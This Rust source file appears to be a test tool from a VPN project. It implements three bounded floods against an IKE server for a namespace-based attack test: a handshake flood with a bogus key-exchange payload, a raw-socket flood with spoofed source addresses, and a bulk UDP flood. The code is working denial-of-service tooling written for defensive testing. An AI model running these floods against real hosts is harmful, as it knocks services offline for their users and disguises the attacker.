//! `rg-flood`: the two handshake floods of the multi-core issue, for the network-namespace attack
//! test (tests/netns/flood.sh). Only for test hosts the test makes itself; every run is bounded in
//! time.
//!
//! ```text
//! rg-flood badke --server ADDR --local ADDR --seconds N
//!     One host, no cryptography: Main Mode message 1 offering MODP-4096, then, when message 2
//!     comes, message 3 with a 1-byte KE payload; again, as fast as it goes.
//! rg-flood spoof --server ADDR --sources A.B.C.0/24 --seconds N [--rate PPS]
//!     Main Mode message 1 from random source addresses of the prefix (raw socket, needs
//!     CAP_NET_RAW), at PPS datagrams per second (default: as fast as it goes).
//! rg-flood udp --server ADDR --local ADDR --seconds N [--size BYTES]
//!     Plain UDP datagrams (IP packets of BYTES, default 1400) to ADDR port 9, 64 a `sendmmsg`,
//!     as fast as they go: the load towards a VPN client's address (tests/benches/socket.sh).
//! ```
//! Prints one line `RESULT mode=... sent=... answered=...` at the end.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, UdpSocket};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use rand::{RngExt, SeedableRng};
use roadgate::ike::crypto::{CipherAlg, DhGroup, HashAlg};
use roadgate_tests::ike_harness::forged_mm3;
use roadgate_tests::initiator::{self, InitiatorConfig, P1Proposal};
use roadgate_tests::wire::Header;

struct Args {
    mode: String,
    server: Ipv4Addr,
    local: Ipv4Addr,
    sources: (Ipv4Addr, u8),
    seconds: f64,
    rate: Option<u64>,
    size: usize,
}

fn parse() -> Result<Args, String> {
    let mut a = std::env::args().skip(1);
    let mode = a.next().ok_or("give a mode: badke, spoof or udp")?;
    let mut args = Args {
        mode,
        server: Ipv4Addr::UNSPECIFIED,
        local: Ipv4Addr::UNSPECIFIED,
        sources: (Ipv4Addr::new(198, 51, 100, 0), 24),
        seconds: 10.0,
        rate: None,
        size: 1400,
    };
    while let Some(k) = a.next() {
        let v = a.next().ok_or(format!("{k} needs a value"))?;
        let bad = |e: &dyn std::fmt::Display| format!("{k} {v}: {e}");
        match k.as_str() {
            "--server" => args.server = v.parse().map_err(|e| bad(&e))?,
            "--local" => args.local = v.parse().map_err(|e| bad(&e))?,
            "--seconds" => args.seconds = v.parse().map_err(|e| bad(&e))?,
            "--rate" => args.rate = Some(v.parse().map_err(|e| bad(&e))?),
            "--size" => {
                args.size = v.parse().map_err(|e| bad(&e))?;
                if !(28..=1500).contains(&args.size) {
                    return Err(bad(&"28 to 1500 bytes"));
                }
            }
            "--sources" => {
                let (net, len) = v.split_once('/').ok_or_else(|| bad(&"not A.B.C.D/LEN"))?;
                let len: u8 = len.parse().map_err(|e| bad(&e))?;
                if !(8..=32).contains(&len) {
                    return Err(bad(&"length outside 8..32"));
                }
                args.sources = (net.parse().map_err(|e| bad(&e))?, len);
            }
            _ => return Err(format!("unknown option {k}")),
        }
    }
    if !(0.0..=120.0).contains(&args.seconds) {
        return Err("--seconds: 0 to 120".into());
    }
    Ok(args)
}

/// Main Mode message 1 with initiator cookie `icky`, offering AES-128/SHA-1/MODP-4096 with a
/// pre-shared key (what the measured attack sent).
fn mm1(icky: [u8; 8]) -> Vec<u8> {
    let mut cfg = InitiatorConfig::new(
        SocketAddr::from(([0, 0, 0, 0], 500)),
        SocketAddr::from(([0, 0, 0, 0], 500)),
        b"none",
    );
    cfg.ike_proposals = vec![P1Proposal::new(
        CipherAlg::AesCbc { key_len: 16 },
        HashAlg::Sha1,
        DhGroup::Modp4096,
    )];
    initiator::main_mode_1(&cfg, icky).0
}

fn badke(a: &Args) -> std::io::Result<(u64, u64)> {
    let sock = UdpSocket::bind((a.local, 0))?;
    sock.connect((a.server, 500))?;
    sock.set_read_timeout(Some(Duration::from_millis(20)))?;
    let end = Instant::now() + Duration::from_secs_f64(a.seconds);
    let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(0xbad0_4e00);
    let (mut sent, mut answered) = (0u64, 0u64);
    let mut buf = [0u8; 4096];
    while Instant::now() < end {
        let icky: [u8; 8] = rng.random();
        sock.send(&mm1(icky))?;
        sent += 1;
        // Message 2 (or nothing: refused): then message 3 with the bad KE.
        let deadline = Instant::now() + Duration::from_millis(50);
        while Instant::now() < deadline {
            let Ok(n) = sock.recv(&mut buf) else { break };
            let Some(h) = buf.get(..n).and_then(Header::parse) else {
                continue;
            };
            if h.icky == icky && h.rcky != [0; 8] {
                answered += 1;
                sock.send(&forged_mm3(icky, h.rcky, &[1]))?;
                sent += 1;
                break;
            }
        }
    }
    Ok((sent, answered))
}

/// The one's-complement checksum of an IPv4 header (RFC 791).
fn ipv4_checksum(h: &[u8]) -> u16 {
    let mut sum: u32 = h
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn spoof(a: &Args) -> std::io::Result<(u64, u64)> {
    use socket2::{Domain, Protocol, Socket, Type};
    // IPPROTO_RAW: we write the IP header ourselves (IP_HDRINCL).
    let sock = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let dst = SocketAddr::new(IpAddr::V4(a.server), 0);
    let end = Instant::now() + Duration::from_secs_f64(a.seconds);
    let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(0x5b00_f000);
    let (net, len) = a.sources;
    let host_bits = 32 - u32::from(len);
    let mask = if host_bits == 32 {
        u32::MAX
    } else {
        (1u32 << host_bits) - 1
    };
    let base = u32::from(net) & !mask;
    let start = Instant::now();
    let mut sent = 0u64;
    while Instant::now() < end {
        if let Some(rate) = a.rate {
            let due = start.elapsed().as_secs_f64() * rate as f64;
            if sent as f64 >= due {
                std::thread::sleep(Duration::from_micros(200));
                continue;
            }
        }
        let src = Ipv4Addr::from(base | (rng.random::<u32>() & mask).max(1));
        let icky: [u8; 8] = rng.random();
        let ike = mm1(icky);
        let total = 20 + 8 + ike.len();
        let mut p = Vec::with_capacity(total);
        p.extend_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0]);
        p[2..4].copy_from_slice(&(total as u16).to_be_bytes());
        p.extend_from_slice(&src.octets());
        p.extend_from_slice(&a.server.octets());
        let c = ipv4_checksum(&p[..20]);
        p[10..12].copy_from_slice(&c.to_be_bytes());
        let sport = rng.random_range(1024..65535u16);
        p.extend_from_slice(&sport.to_be_bytes());
        p.extend_from_slice(&500u16.to_be_bytes());
        p.extend_from_slice(&((8 + ike.len()) as u16).to_be_bytes());
        p.extend_from_slice(&[0, 0]);
        p.extend_from_slice(&ike);
        if sock.send_to(&p, &dst.into()).is_ok() {
            sent += 1;
        }
    }
    Ok((sent, 0))
}

/// The `udp` mode: datagrams of `size - 28` bytes to `server`:9, 64 a `sendmmsg`.
fn udp(a: &Args) -> std::io::Result<(u64, u64)> {
    use nix::sys::socket::{ControlMessage, MsgFlags, MultiHeaders, SockaddrStorage, sendmmsg};
    use std::os::fd::AsRawFd;
    let sock = UdpSocket::bind(SocketAddr::new(IpAddr::V4(a.local), 0))?;
    let payload = vec![0x5au8; a.size - 28];
    let iovs: Vec<[std::io::IoSlice<'_>; 1]> =
        (0..64).map(|_| [std::io::IoSlice::new(&payload)]).collect();
    let to = SockaddrStorage::from(SocketAddr::new(IpAddr::V4(a.server), 9));
    let addrs = vec![Some(to); 64];
    let mut headers = MultiHeaders::<SockaddrStorage>::preallocate(64, None);
    let end = Instant::now() + Duration::from_secs_f64(a.seconds);
    let mut sent = 0u64;
    while Instant::now() < end {
        let cmsgs: [ControlMessage<'_>; 0] = [];
        match sendmmsg(
            sock.as_raw_fd(),
            &mut headers,
            &iovs,
            &addrs,
            cmsgs,
            MsgFlags::empty(),
        ) {
            Ok(r) => sent += r.count() as u64,
            Err(nix::errno::Errno::ENOBUFS | nix::errno::Errno::EAGAIN) => {
                std::thread::yield_now();
            }
            Err(e) => return Err(e.into()),
        }
    }
    Ok((sent, 0))
}

fn main() -> ExitCode {
    let a = match parse() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("rg-flood: {e}");
            return ExitCode::from(2);
        }
    };
    let r = match a.mode.as_str() {
        "badke" => badke(&a),
        "spoof" => spoof(&a),
        "udp" => udp(&a),
        other => {
            eprintln!("rg-flood: unknown mode {other} (badke, spoof or udp)");
            return ExitCode::from(2);
        }
    };
    match r {
        Ok((sent, answered)) => {
            println!(
                "RESULT mode={} sent={sent} answered={answered} seconds={}",
                a.mode, a.seconds
            );
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("rg-flood: {e}");
            ExitCode::FAILURE
        }
    }
}
